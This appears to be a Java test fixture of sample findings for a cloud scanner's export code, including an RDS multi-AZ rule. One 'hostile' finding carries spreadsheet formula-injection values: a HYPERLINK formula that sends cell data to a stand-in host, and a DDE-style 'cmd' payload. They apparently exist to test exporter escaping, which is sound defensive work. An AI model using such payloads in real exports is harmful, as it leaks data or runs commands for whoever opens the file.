package io.plumbline.scanner.finding.export;

import io.plumbline.rules.Impact;
import io.plumbline.rules.Pillar;
import io.plumbline.rules.Rule;
import io.plumbline.rules.Severity;
import io.plumbline.scanner.finding.FindingStatus;
import io.plumbline.scanner.finding.FindingView;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;

/** Findings and catalog entries as the exporters receive them, including hostile resource names. */
final class SampleFindings {

    static final Instant FIRST_SEEN = Instant.parse("2026-03-01T10:15:30Z");
    static final Instant LAST_SEEN = Instant.parse("2026-03-02T08:00:00Z");
    static final Instant RESOLVED_AT = Instant.parse("2026-03-03T09:30:00Z");

    static final Rule MULTI_AZ = new Rule("rds-instance-multi-az", "RDS DB instance runs in a single Availability Zone", "rds",
            "AWS::RDS::DBInstance", Pillar.RELIABILITY, "REL10", "REL10-BP01", Severity.HIGH, Impact.AVAILABILITY,
            "A single-AZ database is a single point of failure.", List.of("Modify the instance.", "Enable Multi-AZ."),
            List.of("https://docs.aws.amazon.com/wellarchitected/latest/reliability-pillar/rel_fault_isolation_multiaz_region_system.html",
                    "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Concepts.MultiAZSingleStandby.html"),
            Optional.of("rds-enable-multi-az"), "true", "message", Map.of());

    static final Function<String, Optional<Rule>> CATALOG = id -> id.equals(MULTI_AZ.id()) ? Optional.of(MULTI_AZ) : Optional.empty();

    private SampleFindings() {}

    static FindingView open() {
        return new FindingView("a".repeat(64), "rds-instance-multi-az", FindingStatus.OPEN, "HIGH", "RELIABILITY", "REL10",
                "REL10-BP01", "AVAILABILITY", "123456789012", "sa-east-1", "arn:aws:rds:sa-east-1:123456789012:db:crm-db",
                "AWS::RDS::DBInstance", "crm-db", "crm-db", Map.of("team", "crm", "env", "prod"),
                "RDS DB instance runs in a single Availability Zone",
                "RDS instance crm-db in sa-east-1 is deployed in a single Availability Zone (sa-east-1a).", FIRST_SEEN,
                LAST_SEEN, null);
    }

    /** A resource named by someone who hopes the export lands in a spreadsheet, with separators and quotes. */
    static FindingView hostile() {
        return new FindingView("b".repeat(64), "rds-instance-multi-az", FindingStatus.REOPENED, "HIGH", "RELIABILITY", "REL10",
                "REL10-BP01", "AVAILABILITY", "123456789012", "us-east-2", "arn:aws:rds:us-east-2:123456789012:db:evil",
                "AWS::RDS::DBInstance", "evil", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                Map.of("owner", "@SUM(1+1)*cmd|' /C calc'!A0"), "RDS DB instance runs in a single Availability Zone",
                "Instance \"evil\", in us-east-2,\nis single-AZ; see <details> & \\ more", FIRST_SEEN, LAST_SEEN, null);
    }

    static FindingView resolvedFromARetiredRule() {
        return new FindingView("c".repeat(64), "iam-old-rule", FindingStatus.RESOLVED, "CRITICAL", "SECURITY", "SEC2",
                "SEC2-BP01", "UNAUTHORIZED_ACCESS", "123456789012", "global", "arn:aws-us-gov:iam::123456789012:root",
                "AWS::IAM::Account", "123456789012", "root", Map.of(), "Root user has no MFA", "Root user of 123456789012 has no MFA.",
                FIRST_SEEN, LAST_SEEN, RESOLVED_AT);
    }
}
